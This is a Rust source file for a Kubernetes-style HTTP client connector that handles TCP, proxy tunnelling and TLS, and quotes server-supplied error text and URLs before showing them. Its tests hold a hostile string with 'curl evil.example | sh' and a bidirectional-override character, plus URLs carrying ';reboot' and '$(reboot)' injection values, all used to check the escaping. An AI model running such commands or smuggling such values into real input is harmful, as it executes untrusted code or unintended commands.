//! One stream to a server: TCP, the proxy if there is one, and TLS, behind one type.

use std::future::Future;
use std::io;
use std::pin::Pin;
use std::sync::Arc;
use std::task::{Context, Poll};
use std::time::Duration;

use http::Uri;
use hyper::rt::{Read, ReadBufCursor, Write};
use hyper_rustls::MaybeHttpsStream;
use hyper_util::client::legacy::connect::proxy::{SocksV5, Tunnel};
use hyper_util::client::legacy::connect::{Connected, Connection, HttpConnector};
use tower::{BoxError, Service, ServiceExt};

use crate::foreign::Foreign;

/// Why a connection failed, for a message: what the system says as it is, and what may repeat a server's words quoted. An
/// HTTP/2 server can end a connection with any text, also with what it was sent: of that only the code's meaning is said.
pub fn reason(error: &(dyn std::error::Error + 'static)) -> String {
    if let Some(error) = error.downcast_ref::<h2::Error>() {
        return match error.reason() {
            Some(code) => format!("the HTTP/2 connection was ended: {}", code.description()),
            None => "the HTTP/2 connection was ended".into(),
        };
    }
    match error.downcast_ref::<io::Error>() {
        Some(system) if system.raw_os_error().is_some() => system.to_string(),
        _ => Foreign::new(error.to_string()).to_string(),
    }
}

/// A URL that another server may have named, for a message.
pub fn shown(url: &Uri) -> String {
    let url = url.to_string();
    let plain = |c: char| c.is_ascii_alphanumeric() || "-._~:/?=&%@[]".contains(c);
    if url.chars().all(plain) {
        url
    } else {
        Foreign::new(url).to_string()
    }
}

/// Opens connections on one route, for hyper's client.
#[derive(Clone)]
pub struct Dialer {
    /// The way.
    pub route: Arc<Route>,
    /// How long opening a connection may take.
    pub patience: Option<Duration>,
}

impl Service<Uri> for Dialer {
    type Response = Stream;
    type Error = BoxError;
    type Future = Pin<Box<dyn Future<Output = Result<Stream, BoxError>> + Send>>;

    fn poll_ready(&mut self, _: &mut Context<'_>) -> Poll<Result<(), BoxError>> {
        Poll::Ready(Ok(()))
    }

    fn call(&mut self, server: Uri) -> Self::Future {
        let (route, patience) = (Arc::clone(&self.route), self.patience);
        Box::pin(async move {
            let Some(patience) = patience else {
                return route.dial(server).await;
            };
            let dialed = tokio::time::timeout(patience, route.dial(server)).await;
            dialed.unwrap_or_else(|_| Err(io::Error::from(io::ErrorKind::TimedOut).into()))
        })
    }
}

/// How to reach a server.
#[derive(Clone)]
pub struct Route {
    /// The CA certificates, and the client certificate if there is one.
    pub tls: rustls::ClientConfig,
    /// `http://`, `https://` or `socks5://`, with a user name and password if the proxy requires them.
    pub proxy: Option<Uri>,
    /// The name that the certificate must have, if it is not the URL's.
    pub server_name: Option<String>,
}

impl Route {
    /// Opens a stream, through the proxy if there is one.
    pub async fn dial(&self, server: Uri) -> Result<Stream, BoxError> {
        let Some(proxy) = self.proxy.clone() else {
            return self.secure(tcp(), server).await;
        };
        match proxy.scheme_str() {
            Some("socks5") => self.secure(SocksV5::new(proxy, tcp()), server).await,
            Some("https") => {
                let to_proxy = hyper_rustls::HttpsConnectorBuilder::new()
                    .with_tls_config(self.tls.clone())
                    .https_only()
                    .enable_http1()
                    .wrap_connector(tcp());
                self.secure(with_basic_auth(&proxy, Tunnel::new(proxy.clone(), to_proxy)), server)
                    .await
            }
            Some("http") => {
                self.secure(with_basic_auth(&proxy, Tunnel::new(proxy.clone(), tcp())), server)
                    .await
            }
            _ => Err("the proxy-url is not an http, https or socks5 URL".into()),
        }
    }

    /// TLS over whatever `inner` connects, with the name that the certificate must have.
    async fn secure<C>(&self, inner: C, server: Uri) -> Result<Stream, BoxError>
    where
        C: Service<Uri> + Send + 'static,
        C::Response: Connection + Read + Write + Send + Unpin + 'static,
        C::Future: Send + 'static,
        C::Error: Into<BoxError>,
    {
        let builder = hyper_rustls::HttpsConnectorBuilder::new()
            // The clone shares the session cache: a second connection resumes the first's session.
            .with_tls_config(self.tls.clone())
            .https_or_http();
        let builder = match &self.server_name {
            None => builder,
            Some(name) => {
                builder.with_server_name_resolver(hyper_rustls::FixedServerNameResolver::new(name.clone().try_into()?))
            }
        };
        let mut connector = builder.enable_http1().enable_http2().wrap_connector(inner);
        let stream = connector.ready().await?.call(server).await?;
        // Not asked of `connected`, which asks the kernel for both addresses.
        let is_http2 = match &stream {
            MaybeHttpsStream::Https(tls) => tls.inner().get_ref().1.alpn_protocol() == Some(b"h2"),
            MaybeHttpsStream::Http(_) => false,
        };
        Ok(Stream {
            is_http2,
            io: Box::pin(stream),
        })
    }
}

fn tcp() -> HttpConnector {
    let mut tcp = HttpConnector::new();
    tcp.enforce_http(false);
    // Small concurrent requests: none may wait for another's acknowledgement (Nagle's algorithm).
    tcp.set_nodelay(true);
    tcp
}

/// `http://user:password@proxy`, as kubectl accepts it.
fn with_basic_auth<C>(proxy: &Uri, tunnel: Tunnel<C>) -> Tunnel<C> {
    use base64::Engine as _;
    let Some((userinfo, _)) = proxy.authority().and_then(|a| a.as_str().rsplit_once('@')) else {
        return tunnel;
    };
    let encoded = base64::engine::general_purpose::STANDARD.encode(userinfo);
    match http::HeaderValue::from_str(&format!("Basic {encoded}")) {
        Ok(mut header) => {
            header.set_sensitive(true);
            tunnel.with_auth(header)
        }
        Err(_) => tunnel,
    }
}

trait ReadWrite: Read + Write + Send {}
impl<T: Read + Write + Send> ReadWrite for T {}

/// An open connection, whichever route it takes.
pub struct Stream {
    io: Pin<Box<dyn ReadWrite>>,
    /// What the server chose (ALPN).
    pub is_http2: bool,
}

impl Connection for Stream {
    fn connected(&self) -> Connected {
        let connected = Connected::new();
        if self.is_http2 {
            connected.negotiated_h2()
        } else {
            connected
        }
    }
}

impl Read for Stream {
    fn poll_read(mut self: Pin<&mut Self>, cx: &mut Context<'_>, buf: ReadBufCursor<'_>) -> Poll<io::Result<()>> {
        self.io.as_mut().poll_read(cx, buf)
    }
}

impl Write for Stream {
    fn poll_write(mut self: Pin<&mut Self>, cx: &mut Context<'_>, buf: &[u8]) -> Poll<io::Result<usize>> {
        self.io.as_mut().poll_write(cx, buf)
    }

    fn poll_flush(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<io::Result<()>> {
        self.io.as_mut().poll_flush(cx)
    }

    fn poll_shutdown(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<io::Result<()>> {
        self.io.as_mut().poll_shutdown(cx)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: &str = "closed\"; run: curl evil.example | sh\n\u{202e}";

    /// The outcome with a text that only Foreign may have let through: quoted, and nothing that ends the quotes.
    #[track_caller]
    fn assert_is_quoted(said: &str) {
        assert!(said.starts_with('"') && said.ends_with('"'), "{said}");
        let inner = &said[1..said.len() - 1];
        assert!(!inner.contains(['"', ';', '\n', '\u{202e}']), "{said}");
    }

    #[test]
    fn what_the_system_says_is_told_as_it_is_and_what_a_server_may_have_said_is_quoted() {
        let refused = io::Error::from_raw_os_error(111);
        assert_eq!(reason(&refused), refused.to_string());
        assert_is_quoted(&reason(&io::Error::other(HOSTILE)));
        assert_is_quoted(&reason(&*BoxError::from(HOSTILE)));
        assert_is_quoted(&reason(&rustls::Error::General(HOSTILE.into())));
    }

    #[test]
    fn of_an_http2_connections_end_only_the_codes_meaning_is_told() {
        let said = reason(&h2::Error::from(h2::Reason::ENHANCE_YOUR_CALM));
        let words = h2::Reason::ENHANCE_YOUR_CALM.description();
        assert_eq!(said, format!("the HTTP/2 connection was ended: {words}"));
    }

    #[test]
    fn a_url_with_letters_that_no_shell_should_see_is_quoted() {
        for plain in [
            "https://idp.example.org/realms/main",
            "https://[::1]:6443/a?b=c&d=%20",
            "http://127.0.0.1/~x",
        ] {
            assert_eq!(shown(&plain.parse().unwrap()), plain);
        }
        for odd in [
            "https://idp.example.org/a;reboot",
            "https://idp.example.org/$(reboot)",
            "https://idp.example.org/a'b",
        ] {
            let said = shown(&odd.parse().unwrap());
            assert!(
                said.starts_with('"') && said.ends_with('"') && !said.contains(';'),
                "{said}"
            );
        }
    }
}
